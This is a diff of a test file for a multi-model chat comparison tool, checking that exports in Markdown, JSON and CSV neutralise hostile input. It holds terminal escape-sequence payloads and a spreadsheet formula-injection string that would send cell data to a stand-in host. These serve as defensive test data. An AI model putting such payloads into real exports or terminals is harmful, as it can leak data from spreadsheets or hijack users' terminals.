@@ -34,7 +34,7 @@ async def chat(client, history, prompt: str, model: str = "gpt-4.1") -> tuple[Co
 
 
 def no_escapes(text: str) -> None:
-    for bad in ("\x1b", "\x07", "\b", "\u202e"):
+    for bad in ("\x1b", "\x07", "\b", "\u202e", "\x9b"):  # \x9b: the 8-bit CSI
         assert bad not in text
 
 
@@ -66,7 +66,10 @@ async def test_hostile_output_is_neutralised_in_every_format(setup, demo_relay, 
     result = await run_comparison(client, history, profile="p", models=["gpt-4.1", "gemini-2.5-flash"],
                                   prompt="compare \x1b]0;x\x07 this")
     for fmt in ("md", "json", "csv"):
-        no_escapes(export_comparison(history, result.comparison_id, fmt, tmp_path).read_text())
+        text = export_comparison(history, result.comparison_id, fmt, tmp_path).read_text()
+        no_escapes(text)
+        assert "compare ␛]0;x␇ this" in text or "compare \\u241b]0;x\\u2407 this" in text  # kept, inert
+        assert "␛[2J" in text or "\\u241b[2J" in text                      # each answer too
 
 
 async def test_comparison_exports(setup, demo_relay):
@@ -84,6 +87,15 @@ async def test_comparison_exports(setup, demo_relay):
     assert rows[0]["content"] == result.columns[0].text and float(rows[0]["ttft"]) >= 0
     data = json.loads(export_comparison(history, result.comparison_id, "json").read_text())
     assert data["vote"]["outcome"] == "A" and len(data["answers"]) == 2
+
+
+async def test_csv_cells_are_never_spreadsheet_formulas(setup):
+    client, history = setup
+    result = await run_comparison(client, history, profile="p", models=["gpt-4.1", "gpt-4.1"],
+                                  prompt='=HYPERLINK("http://x.test/?"&A1,"click")')
+    rows = list(csv.DictReader(export_comparison(history, result.comparison_id, "csv").open()))
+    assert rows[0]["prompt"] == '\'=HYPERLINK("http://x.test/?"&A1,"click")'  # inert, still readable
+    assert rows[0]["model"] == "gpt-4.1" and rows[0]["content"] == result.columns[0].text
 
 
 def test_missing_or_wrong_format_is_one_line(tmp_path):
